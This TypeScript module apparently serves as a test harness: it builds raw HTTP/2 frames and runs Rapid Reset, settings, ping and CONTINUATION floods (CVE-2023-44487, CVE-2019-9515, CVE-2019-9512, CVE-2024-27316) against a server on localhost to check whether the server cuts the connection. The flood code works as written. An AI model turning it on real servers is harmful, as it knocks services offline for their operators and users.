import { once } from "node:events";
import { connect, type Socket } from "node:net";

import { yieldToOthers } from "@hostledger/runtime/async";

/** Frame types of HTTP/2 (RFC 9113 §6). */
export const frameTypes = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;

const endStream = 1;
const endHeaders = 4;
const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

/** `:method: POST`, `:scheme: http`, `:path: /` of HPACK's static table (RFC 7541, appendix A). */
const shortHeaders = Buffer.from([0x83, 0x86, 0x84]);

/** Returns the bytes of a frame. */
export function frame(
  type: number,
  stream: number,
  payload: Uint8Array = new Uint8Array(),
  flags = 0,
): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** Frames of a flood by repetition, counted from 0. */
export type Flood = (index: number) => Buffer;

/** Requests that are taken back at once: nothing is left of each but the work of having begun it (CVE-2023-44487). */
export const rapidReset: Flood = (index) => {
  const stream = 2 * index + 1;
  const request = frame(frameTypes.headers, stream, shortHeaders, endStream | endHeaders);
  return Buffer.concat([request, frame(frameTypes.reset, stream, Buffer.from([0, 0, 0, 8]))]);
};

/** Settings, each of which is to be acknowledged (CVE-2019-9515). */
export const settingsFlood: Flood = () => frame(frameTypes.settings, 0);

/** Pings, each of which is to be answered (CVE-2019-9512). */
export const pingFlood: Flood = () => frame(frameTypes.ping, 0, Buffer.alloc(8));

/** The head of a request that never ends (CVE-2024-27316). */
export const continuationFlood: Flood = (index) =>
  index === 0 ? frame(frameTypes.headers, 1, shortHeaders) : frame(frameTypes.continuation, 1, manyFields);

// Fields that are not to be indexed, of a name and a value of 100 characters each.
const text = Buffer.concat([Buffer.from([100]), Buffer.alloc(100, "a")]);
const manyFields = Buffer.concat(Array.from({ length: 40 }, () => [Buffer.from([0]), text, text]).flat());

/** Frames of one write. */
const framesAtOnce = 64;

/**
 * Sends a flood on its own connection until the server ends it, or the limit is reached. Answers are not read
 * before, so that they pile up at the server.
 * @returns number of repetitions sent, and whether the server ended the connection.
 */
export async function attack(
  port: number,
  flood: Flood,
  most: number,
): Promise<{ readonly sent: number; readonly isEnded: boolean }> {
  const socket = connect(port, "127.0.0.1");
  const ended = new AbortController();
  for (const event of ["error", "end", "close"])
    socket.on(event, () => {
      ended.abort();
    });
  await once(socket, "connect");
  socket.write(Buffer.concat([preface, frame(frameTypes.settings, 0)]));
  let sent = 0;
  while (sent < most && !ended.signal.aborted) {
    const first = sent;
    sent += framesAtOnce;
    const some = Array.from({ length: framesAtOnce }, (_, index) => flood(first + index));
    if (!socket.write(Buffer.concat(some))) await drained(socket, ended.signal);
    else await yieldToOthers();
  }
  const isEnded = ended.signal.aborted || (await isEndedWhenRead(socket));
  socket.destroy();
  return { sent, isEnded };
}

async function drained(socket: Socket, ended: AbortSignal): Promise<void> {
  await Promise.race([once(socket, "drain").catch(() => undefined), aborted(ended)]);
}

async function aborted(signal: AbortSignal): Promise<void> {
  if (!signal.aborted) await once(signal, "abort");
}

/** Reads the answer to a ping, or the end of the connection. */
async function isEndedWhenRead(socket: Socket): Promise<boolean> {
  const last = Buffer.from("the-last");
  const { promise, resolve } = Promise.withResolvers<boolean>();
  let tail = Buffer.alloc(0);
  socket.on("data", (bytes: Buffer) => {
    tail = Buffer.concat([tail.subarray(-last.length), bytes]);
    if (tail.includes(last)) resolve(false);
  });
  for (const event of ["error", "end", "close"])
    socket.on(event, () => {
      resolve(true);
    });
  socket.write(frame(frameTypes.ping, 0, last));
  return promise;
}
